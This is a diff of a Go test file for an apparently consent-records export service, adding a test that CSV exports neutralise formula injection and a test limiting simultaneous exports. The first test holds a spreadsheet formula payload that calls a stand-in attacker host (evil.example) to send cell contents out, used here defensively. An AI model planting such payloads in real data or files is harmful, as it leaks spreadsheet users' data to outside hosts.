@@ -173,6 +173,15 @@ func TestD16_AnExportNamesPeopleOnlyForAReason(t *testing.T) {
 			t.Errorf("%s: %q", file, rows)
 		}
 	}
+	odd := h.person()
+	odd.subject = `=HYPERLINK("http://evil.example/?"&A1)`
+	odd.open().decide("granted").ok(201)
+	w.tick(t)
+	id = h.export(func(x object) { x["identifiers"], x["reason"], x["subject"] = "subjects", "audit", odd.subject })
+	w.tick(t)
+	if table := h.fetched(id).files["consents.csv"]; !strings.HasSuffix(table, `,"'=HYPERLINK(""http://evil.example/?""&A1)"`+"\r\n") {
+		t.Errorf("a spreadsheet would run %q", table)
+	}
 	if strings.Contains(b.files["records.ndjson"], p.subject) {
 		t.Error("the log's own lines name a person")
 	}
@@ -238,6 +247,17 @@ func TestAnExportGoesByItselfAndIsNobodyElses(t *testing.T) {
 	if _, err := os.Stat(folder); !os.IsNotExist(err) {
 		t.Errorf("its files are still there: %v", err)
 	}
+}
+
+func TestAnEnterpriseHasSoManyExportsMadeAtOnce(t *testing.T) {
+	t.Parallel()
+	h := newWorld(t, setup{}).house(t)
+	for range 10 {
+		h.export(nil)
+	}
+	h.do(t, "POST", "/v1/exports", h.auditor, h.wish(nil)).refused(409, "too-many-exports")
+	h.tick(t)
+	h.export(nil)
 }
 
 // A closed enterprise gets its records in one file.
